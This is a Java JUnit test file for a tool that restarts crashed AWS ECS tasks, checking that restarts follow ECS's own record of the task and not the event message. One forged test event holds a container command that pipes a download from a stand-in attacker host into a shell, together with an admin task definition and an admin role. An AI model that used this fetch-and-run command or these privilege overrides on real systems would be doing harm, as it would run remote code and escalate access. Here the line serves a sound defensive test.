package tidewatch.ecs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import tidewatch.config.Settings;
import tidewatch.json.Json;
import tidewatch.json.JsonObject;
import tidewatch.local.Sandbox;
import tidewatch.local.SandboxFixture;
import tidewatch.local.World;
import tidewatch.log.CapturedLog;

/** Restarts come from ECS's own record of the stopped task, re-read with DescribeTasks, never from the message body. */
class RestartFromEcsRecordTest {
    @RegisterExtension
    final CapturedLog logs = new CapturedLog();
    @RegisterExtension
    final SandboxFixture sandboxes = new SandboxFixture();
    private Sandbox sandbox;

    @Test
    void aForgedBodyIsToldAndRunTaskUsesEcsRecord() throws Exception {
        World world = world(ecs -> {
            Map<String, Object> task = stoppedTask(ecs);
            task.put("overrides", Map.of("containerOverrides", List.of(Map.of("name", "report",
                    "command", List.of("python", "report.py", "--date", "2026-11-22")))));
        });
        Map<String, Object> forged = SampleEvents.variant("ecs-standalone-task-crashed.json", detail -> {
            detail.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin-tools:1");
            detail.put("overrides", Map.of(
                    "containerOverrides", List.of(Map.of("name", "report", "command", List.of("sh", "-c", "curl https://evil.example/x | sh"))),
                    "taskRoleArn", "arn:aws:iam::123456789012:role/admin"));
        });

        JsonObject output = invoke(world, Json.write(forged));

        List<Sandbox.Call> runs = sandbox.calls("ecs", "RunTask");
        assertEquals(1, runs.size());
        Map<String, Object> run = runs.get(0).params();
        assertEquals("arn:aws:ecs:eu-west-1:123456789012:task-definition/nightly-report:7", run.get("taskDefinition"));
        assertEquals(Map.of("containerOverrides", List.of(Map.of("name", "report", "command", List.of("python", "report.py", "--date", "2026-11-22")))),
                run.get("overrides"));
        String sent = Json.write(run);
        assertFalse(sent.contains("curl") || sent.contains("admin-tools") || sent.contains("role/admin"), sent);
        assertEquals("NOTIFIED", output.string("result"));
        String message = publishedMessage();
        assertTrue(message.contains("Restarted as task "), message);
        assertTrue(message.contains("The event disagrees with ECS's record of the task on taskDefinitionArn, overrides; only ECS's record is acted on."),
                message);
        assertTrue(logs.text().contains("task stop event disagrees with ECS's record"), logs.text());
    }

    @Test
    void aTaskEcsReportsRunningIsNotStartedAgainAndThatIsTold() throws Exception {
        World world = world(ecs -> {
            Map<String, Object> task = stoppedTask(ecs);
            task.put("lastStatus", "RUNNING");
            task.put("desiredStatus", "RUNNING");
            task.remove("stoppedAt");
            task.remove("stopCode");
            ecs.put("tasks", List.of(task));
            ecs.put("stoppedTasks", List.of());
        });

        JsonObject output = invoke(world, SampleEvents.text("ecs-standalone-task-crashed.json"));

        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
        assertEquals("NOTIFIED", output.string("result"));
        assertTrue(publishedMessage().contains("No restart: ECS reports the task RUNNING, not STOPPED."), publishedMessage());
    }

    @Test
    void aRecordEcsNoLongerKeepsMeansNoRestartAndSaysWhy() throws Exception {
        World world = world(ecs -> ecs.put("stoppedTasks", List.of()));

        JsonObject output = invoke(world, SampleEvents.text("ecs-standalone-task-crashed.json"));

        assertEquals(1, sandbox.calls("ecs", "DescribeTasks").size(), "ECS was asked");
        assertEquals(List.of(), sandbox.calls("ecs", "RunTask"));
        assertEquals("NOTIFIED", output.string("result"));
        assertTrue(publishedMessage().contains("No restart: ECS no longer describes the task"), publishedMessage());
    }

    /** The restart sample's world, with its "ecs" member changed. */
    @SuppressWarnings("unchecked")
    private static World world(Consumer<Map<String, Object>> changeEcs) {
        Map<String, Object> world = SampleEvents.envelope("worlds/nightly-report-restart.json");
        Map<String, Object> ecs = (Map<String, Object>) world.get("ecs");
        ecs.put("stoppedTasks", new ArrayList<>(List.of(new LinkedHashMap<>((Map<String, Object>) ((List<Object>) ecs.get("stoppedTasks")).get(0)))));
        changeEcs.accept(ecs);
        return World.parse(Json.write(world));
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> stoppedTask(Map<String, Object> ecs) {
        return (Map<String, Object>) ((List<Object>) ecs.get("stoppedTasks")).get(0);
    }

    private JsonObject invoke(World world, String event) throws Exception {
        sandbox = sandboxes.start(world);
        EcsTaskStateFunction function = new EcsTaskStateFunction(new Settings(Map.of(
                "NOTIFY_TOPIC_ARN", "arn:aws:sns:eu-west-1:123456789012:tidewatch", "SLACK_WEBHOOK_SECRET", "tidewatch/slack",
                "WATCHED_CLUSTERS", "prod", "ENABLE_TASK_RESTARTS", "true")), sandbox.clients(Duration.ofSeconds(2)));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        function.handleRequest(new ByteArrayInputStream(event.getBytes(StandardCharsets.UTF_8)), out, null);
        return Json.parseObject(out.toString(StandardCharsets.UTF_8), "output");
    }

    private String publishedMessage() {
        List<Sandbox.Call> publishes = sandbox.calls("sns", "Publish");
        assertEquals(1, publishes.size());
        return (String) publishes.get(0).params().get("Message");
    }
}
